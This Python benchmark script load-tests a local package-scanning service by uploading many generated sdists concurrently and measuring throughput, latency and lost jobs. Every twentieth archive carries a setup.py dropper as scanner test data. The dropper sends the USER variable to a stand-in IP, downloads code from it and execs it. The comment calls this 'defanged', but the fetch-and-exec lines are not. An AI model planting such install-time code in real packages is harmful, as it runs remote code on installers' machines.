"""Load test of ``vetpy serve`` on loopback: many concurrent clients submit N small archives.

Builds N distinct small sdists (a few in twenty carry a defanged install-time dropper, the rest are plain),
starts ``vetpy serve`` on a free 127.0.0.1 port with a throw-away database, and runs C concurrent clients
that upload them and then poll their jobs until every one has ended. Reports throughput (jobs per second
from the first upload to the last job's end), p50/p99 of the upload request's latency and of the
end-to-end latency (job created -> finished, server clock), and the number of lost jobs (accepted but
never ``done``/``failed``: must be 0). Bounded: ``--max-seconds`` stops everything.

    python benchmarks/service_load.py --jobs 1000 --clients 32 --workers 2
"""

from __future__ import annotations

import argparse
import asyncio
import io
import json
import os
import platform
import socket
import statistics
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path
from typing import Any

import httpx

TOKEN = "load-test-token-" + "x" * 24


def build_sdist(i: int) -> bytes:
    name, root = f"loadpkg{i}", f"loadpkg{i}-1.0"
    setup = f"from setuptools import setup\nsetup(name={name!r}, version='1.0', packages=[{name!r}])\n"
    if i % 20 == 0:  # a defanged dropper: only ever writes a file in a temp dir, and is never run
        setup += (
            "import base64, os, subprocess, urllib.request\n"
            "data = urllib.request.urlopen('http://198.51.100.7/p?u=' + os.environ.get('USER', '')).read()\n"
            "exec(base64.b64decode(data))\n"
            "subprocess.Popen(['sh', '-c', 'touch /tmp/vetpy-load-canary'])\n"
        )
    files = {
        f"{root}/PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        f"{root}/setup.py": setup.encode(),
        f"{root}/{name}/__init__.py": f"def value():\n    return {i}\n".encode(),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, data in files.items():
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def percentile(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(q / 100 * (len(ordered) - 1)))] if ordered else float("nan")


def start_server(root: Path, workers: int) -> tuple[subprocess.Popen[bytes], str]:
    (root / "tokens.txt").write_text(TOKEN + "\n")
    port = free_port()
    command = [
        sys.executable,
        "-m",
        "vetpy",
        "serve",
        "--port",
        str(port),
        "--db",
        str(root / "jobs.sqlite3"),
    ]
    command += ["--token-file", str(root / "tokens.txt"), "--workers", str(workers)]
    log = (root / "server.log").open("wb")
    process = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    for _ in range(600):
        try:
            if httpx.get(f"{url}/v1/health", timeout=2).status_code == 200:
                return process, url
        except httpx.HTTPError:
            time.sleep(0.1)
    process.kill()
    raise SystemExit("the server did not start")


async def client_task(
    client: httpx.AsyncClient, archives: list[tuple[int, bytes]], out: dict[str, Any], deadline: float
) -> None:
    ids: list[str] = []
    for i, data in archives:
        start = time.perf_counter()
        try:
            response = await client.post(
                "/v1/scans", files={"file": (f"loadpkg{i}-1.0.tar.gz", data, "application/gzip")}
            )
        except httpx.HTTPError as exc:
            out["submit_errors"].append(f"{type(exc).__name__}")
            continue
        out["submit_seconds"].append(time.perf_counter() - start)
        if response.status_code != 202:
            out["submit_errors"].append(str(response.status_code))
            continue
        ids.append(response.json()["id"])
    out["accepted"].extend(ids)
    pending = set(ids)
    while pending and time.monotonic() < deadline:
        for job_id in list(pending):
            try:
                job = (await client.get(f"/v1/scans/{job_id}")).json()
            except httpx.TransportError as exc:  # a dropped keep-alive connection: ask again
                out["poll_errors"].append(type(exc).__name__)
                continue
            if job["status"] in ("done", "failed"):
                pending.discard(job_id)
                out["jobs"][job_id] = {
                    "status": job["status"],
                    "verdict": (job["result"] or {}).get("verdict"),
                    "created": job["created"],
                    "finished": job["finished"],
                }
        if pending:
            await asyncio.sleep(0.5)


async def run_clients(
    url: str, archives: list[tuple[int, bytes]], clients: int, max_seconds: float
) -> dict[str, Any]:
    out: dict[str, Any] = {
        "submit_seconds": [],
        "submit_errors": [],
        "poll_errors": [],
        "accepted": [],
        "jobs": {},
    }
    deadline = time.monotonic() + max_seconds
    limits = httpx.Limits(max_connections=clients)
    async with httpx.AsyncClient(
        base_url=url, headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120, limits=limits
    ) as client:
        shares = [archives[k::clients] for k in range(clients)]
        await asyncio.gather(*(client_task(client, share, out, deadline) for share in shares))
    return out


def summarise(out: dict[str, Any], jobs: int, clients: int, workers: int, wall: float) -> dict[str, Any]:
    finished = out["jobs"]
    e2e = [j["finished"] - j["created"] for j in finished.values() if j["finished"]]
    first = min((j["created"] for j in finished.values()), default=0.0)
    last = max((j["finished"] or 0 for j in finished.values()), default=0.0)
    verdicts: dict[str, int] = {}
    for job in finished.values():
        verdicts[job["verdict"] or job["status"]] = verdicts.get(job["verdict"] or job["status"], 0) + 1
    return {
        "jobs": jobs,
        "clients": clients,
        "workers": workers,
        "accepted": len(out["accepted"]),
        "submit_errors": len(out["submit_errors"]),
        "poll_errors_retried": len(out["poll_errors"]),
        "ended": len(finished),
        "lost": len(set(out["accepted"]) - set(finished)),
        "failed": sum(1 for j in finished.values() if j["status"] == "failed"),
        "verdicts": verdicts,
        "throughput_jobs_per_s": round(len(finished) / (last - first), 2) if last > first else None,
        "upload_p50_ms": round(1000 * percentile(out["submit_seconds"], 50), 1),
        "upload_p99_ms": round(1000 * percentile(out["submit_seconds"], 99), 1),
        "end_to_end_p50_s": round(percentile(e2e, 50), 2),
        "end_to_end_p99_s": round(percentile(e2e, 99), 2),
        "end_to_end_mean_s": round(statistics.fmean(e2e), 2) if e2e else None,
        "wall_seconds": round(wall, 1),
    }


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--jobs", type=int, default=1000)
    parser.add_argument("--clients", type=int, default=32)
    parser.add_argument("--workers", type=int, default=2)
    parser.add_argument("--max-seconds", type=float, default=900.0)
    parser.add_argument("--out", default=str(Path(__file__).parent / "results"))
    args = parser.parse_args()
    if not 0 < args.jobs <= 10_000 or not 0 < args.clients <= 256:
        raise SystemExit("--jobs 1..10000 and --clients 1..256")
    archives = [(i, build_sdist(i)) for i in range(args.jobs)]
    load_before = [round(x, 1) for x in os.getloadavg()]
    with tempfile.TemporaryDirectory(prefix="vetpy-load-") as tmp:
        process, url = start_server(Path(tmp), args.workers)
        try:
            start = time.perf_counter()
            out = asyncio.run(run_clients(url, archives, args.clients, args.max_seconds))
            wall = time.perf_counter() - start
        finally:
            process.terminate()
            process.wait(timeout=60)
            log = Path(tmp) / "server.log"
            if log.is_file():
                (Path(tempfile.gettempdir()) / "vetpy-load-server.log").write_bytes(log.read_bytes())
    summary = summarise(out, args.jobs, args.clients, args.workers, wall)
    summary["machine"] = {
        "cpus": os.cpu_count(),
        "python": platform.python_version(),
        "system": platform.system(),
        "load_average_at_start": load_before,
        "load_average_at_end": [round(x, 1) for x in os.getloadavg()],
    }
    summary["command"] = " ".join(["python", "benchmarks/service_load.py", *sys.argv[1:]])
    results = Path(args.out)
    results.mkdir(parents=True, exist_ok=True)
    path = results / f"{time.strftime('%Y-%m-%d')}-service-load.json"
    path.write_text(json.dumps(summary, indent=2) + "\n")
    print(json.dumps(summary, indent=2))
    print(f"wrote {path}", file=sys.stderr)
    return 0 if summary["lost"] == 0 and summary["ended"] == summary["accepted"] == args.jobs else 1


if __name__ == "__main__":
    raise SystemExit(main())
